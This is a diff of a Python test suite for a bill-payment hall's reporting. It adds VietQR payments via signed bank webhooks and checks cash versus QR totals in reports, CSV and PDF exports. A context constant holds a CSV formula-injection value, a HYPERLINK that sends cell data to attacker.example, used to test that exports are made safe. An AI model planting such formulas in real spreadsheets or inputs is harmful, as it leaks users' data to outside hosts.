@@ -9,9 +9,11 @@ import codecs
 import csv
 import datetime as dt
 import io
+import json
 import re
 import subprocess
 import sys
+import time
 from collections import defaultdict
 from collections.abc import Iterator
 from typing import Any
@@ -22,6 +24,7 @@ import pytest
 import yaml
 from pypdf import PdfReader
 
+from integrations.bank import signing
 from printers.formats import vnd
 from qms.usecases import csv_safe, report_export
 from qms.words import status_text
@@ -38,6 +41,8 @@ SHORT = 2_000
 APPROVAL_NOTE = "Thiếu 2.000 đ do thối nhầm, thu ngân đã nộp bù"
 #: a reason typed by a cashier that a spreadsheet would run as a formula, if written raw
 HOSTILE_REASON = '=HYPERLINK("http://attacker.example/?d="&A1,"thu nhầm khách hàng")'
+BANK_SECRET = "reports-bank-secret-0123456789"
+WAITING = "Chuyển khoản khi chờ / Paid by QR while waiting"
 
 
 @pytest.fixture(scope="module")
@@ -55,6 +60,7 @@ def hall(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HallServer]:
             "cmis_version": "1.0",
         }
     )
+    raw["bank"]["webhook_secret"] = BANK_SECRET  # the bank's notifications: signed by us
     server.config.write_text(yaml.safe_dump(raw, allow_unicode=True), encoding="utf-8")
     server.start()  # first: demo accounts are made on an empty user table only
     try:
@@ -101,6 +107,27 @@ def collect(cashier: Staff, invoices: list[dict[str, Any]]) -> str:
         amount=sum(i["total"] for i in invoices),
     )
     return str(paid["payments"][0]["txn_id"])
+
+
+def pay_by_qr(hall: HallServer, qr: dict[str, Any], bank_txn: str) -> str:
+    """The bank's signed notification that the QR was paid in full; our txn id."""
+    raw = json.dumps(
+        {
+            "transaction_id": bank_txn,
+            "account": qr["account"],
+            "amount": qr["amount"],
+            "currency": "VND",
+            "description": f"{qr['ref']} thanh toan tien dien",
+            "credited_at": dt.datetime.now(TZ).isoformat(),
+        }
+    ).encode()
+    headers = signing.headers(BANK_SECRET, int(time.time()), raw)
+    r = httpx.post(f"{hall.base}/api/bank/notifications", content=raw, headers=headers)
+    r.raise_for_status()
+    credit = r.json()["credit"]
+    assert credit["status"] == "applied", credit
+    (txn,) = credit["payments"]
+    return str(txn)
 
 
 def settle(view: ViewClient, wanted: dict[str, str]) -> None:
@@ -160,6 +187,15 @@ def day(
             settle(views[0], {refused_txn: "payment.refused", reversed_txn: "payment.reversed"})
         finally:
             faults(hall)
+        # VietQR: one shown at C2 and paid there, one printed on a ticket and paid while
+        # it waited (never called): at the bank, in no drawer
+        _, invoices = serve(desk, c2, customers.take(invoices=1))
+        ids = [i["invoice_id"] for i in invoices]
+        shown = c2.post("/api/counters/C2/qr", {"invoices": ids, "amount": invoices[0]["total"]})
+        qr_counter = pay_by_qr(hall, shown, "FT26341000001")
+        waiting = desk["reception"].post("/api/tickets", {"customers": [customers.take()]})
+        qr_waiting = pay_by_qr(hall, waiting["qr"], "FT26341000002")
+        settle(views[0], {qr_counter: "payment.confirmed", qr_waiting: "payment.confirmed"})
         c1.post("/api/cash/movements", {"side": "out", "cashier": "head", "amount": 100_000})
         c4.post("/api/cash/movements", {"side": "in", "cashier": "cashier1", "amount": 100_000})
         # C1 counts 2.000 đ short; the supervisor accepts the difference, saying why
@@ -183,6 +219,8 @@ def day(
             "other": other,
             "other_total": counted,
             "admin": admin,
+            "qr_counter": qr_counter,
+            "qr_waiting": qr_waiting,
         }
     finally:
         for v in views:
@@ -244,11 +282,15 @@ def test_totals_equal_the_sum_of_payments(staff: dict[str, Staff], day: dict[str
         p["txn_id"] for p in payments
     )
     assert {r["cashier"]: r["name"] for r in report["by_cashier"]}["cashier1"] == "Phạm Thu Ngân"
-    # the drawers count the same money, and so does the reconciliation with CMIS
-    assert sup.get("/api/cash")["totals"]["collected"] == report["totals"]["net"]
+    # the drawers count the cash, the bank the rest; CMIS has both
+    t = report["totals"]
+    cash = sup.get("/api/cash")["totals"]
+    assert (cash["collected"], cash["noncash"]) == (t["net_cash"], t["net_vietqr"])
+    assert t["net_cash"] + t["net_vietqr"] == t["net"] and t["payments_vietqr"] == 2
     (recon,) = report["reconciliation"]["days"]
     assert recon["available"] and recon["open_items"] == 0
-    assert recon["our_total"] == recon["cmis_total"] == report["totals"]["net"]
+    assert recon["our_total"] == recon["cmis_total"] == t["net"]
+    assert (recon["our_cash"], recon["our_vietqr"]) == (t["net_cash"], t["net_vietqr"])
     assert report["by_day"][0]["closed"] is False
 
 
@@ -355,7 +397,10 @@ def test_csv_parses_and_its_totals_match(staff: dict[str, Staff], day: dict[str,
     )
     assert {t["txn_id"] for t in txns} == {t["txn_id"] for t in report["transactions"]}
     cashiers = {c["cashier"]: figures(c) for c in sections["by_cashier"]}
-    assert cashiers == {c["cashier"]: figures(c) for c in report["by_cashier"]}
+    # an account as it is; the QRs paid while waiting (bank:vietqr) in words
+    assert cashiers == {
+        status_text("taken_by", c["cashier"]): figures(c) for c in report["by_cashier"]
+    }
     assert sum(int(c["net"]) for c in sections["by_cashier"]) == report["totals"]["net"]
     assert {c["name"] for c in sections["by_cashier"]} >= {"Phạm Thu Ngân", "Hoàng Văn Thu"}
     assert [x["returned_reason"] for x in sections["returns"]] == [
@@ -426,6 +471,7 @@ RAW_CODES = {
     *("matched", "hanging", "mismatch", "cancelled", "open", "pending_approval", "closed"),
     *("not_enough_money", "fewer_periods", "customer_left", "paid_elsewhere"),
     *("only_ours", "only_cmis", "amount_differs", "even", "odd", "cashier", "head_cashier"),
+    *("cash", "vietqr", "bank:vietqr"),
 }
 
 
@@ -479,8 +525,29 @@ def test_csv_and_pdf_say_the_same(exports: dict[str, Any]) -> None:
     assert f"Tổng tiền kiểm đếm / Counted in total: {vnd(counted)}. Bằng chữ / In words: " in text
     (summary,) = sheet["summary"]["rows"]
     assert summary["net_in_words"] == amount_in_words(report["totals"]["net"])
-    assert summary["net_in_words"].startswith("Ba triệu bảy trăm")  # 3.728.649 đ
+    assert summary["net_in_words"].startswith("Bốn triệu chín trăm mười tám nghìn")  # 4.918.574 đ
     assert f"Bằng chữ / In words: {summary['net_in_words']}" in text
+    # cash and VietQR apart: each money column again per method, and a row of its own for
+    # the QRs paid while waiting, named in words, in the CSV and the PDF alike
+    t = report["totals"]
+    assert (int(summary["net_cash"]), int(summary["net_vietqr"])) == (
+        t["net_cash"],
+        t["net_vietqr"],
+    )
+    split = (
+        f"Trong đó tiền mặt / Of which cash: {vnd(t['net_cash'])}; VietQR: {vnd(t['net_vietqr'])}"
+    )
+    assert split in text
+    (waiting,) = [r for r in sheet["by_cashier"]["rows"] if r["name"] == WAITING]
+    assert (waiting["net_cash"], waiting["net_vietqr"]) == ("0", waiting["net"])
+    (counter_qr,) = [r for r in sheet["transactions"]["rows"] if r["bank_txn"] == "FT26341000001"]
+    assert (counter_qr["method"], counter_qr["counter"]) == ("Chuyển khoản VietQR", "C2")
+    assert f"{counter_qr['txn_id']} C2 Hoàng Văn Thu" in text
+    assert "Chuyển khoản VietQR FT26341000001" in text and "FT26341000002" in text
+    assert {r["method"] for r in sheet["transactions"]["rows"]} == {
+        "Tiền mặt",
+        "Chuyển khoản VietQR",
+    }
     signers = sheet["signatures"]["rows"]
     assert [r["role"] for r in signers] == [
         "Người lập biểu",
@@ -539,9 +606,12 @@ def test_each_drawer_adds_up(exports: dict[str, Any]) -> None:
     total = sheet["total"]
     for key in ("float", "collected", "given_back", "money_in", "money_out", "expected"):
         assert n(total, key) == sum(n(r, key) for r in sheet["rows"]), key
-    t = report["totals"]
-    assert (n(total, "collected"), n(total, "given_back")) == (t["collected"], t["given_back"])
-    assert n(total, "expected") == t["net"]  # floats of 0; money moved stays in the hall
+    t = report["totals"]  # a drawer counts cash only: the QR payments are at the bank
+    assert (n(total, "collected"), n(total, "given_back")) == (
+        t["collected_cash"],
+        t["given_back_cash"],
+    )
+    assert n(total, "expected") == t["net_cash"]  # floats of 0; money moved stays in the hall
     assert n(total, "difference") == -SHORT
     text = flat(exports["text"])
     assert "Két tiền từng thu ngân / Cash drawers" in text and APPROVAL_NOTE in text
@@ -552,9 +622,8 @@ def test_transactions_name_their_customers(exports: dict[str, Any]) -> None:
     for t in report["transactions"]:
         name = t["customer_name"]
         assert name and name != t["customer_code"], t
-        assert (
-            f"{t['txn_id']} {t['counter']} {t['cashier_name']} {t['customer_code']} {name} " in text
-        )
+        cells = (t["txn_id"], t["counter"], t["cashier_name"], t["customer_code"], name)
+        assert flat(" ".join(cells)) + " " in text, t
 
 
 def test_roles(hall: HallServer, staff: dict[str, Staff], day: dict[str, Any]) -> None:
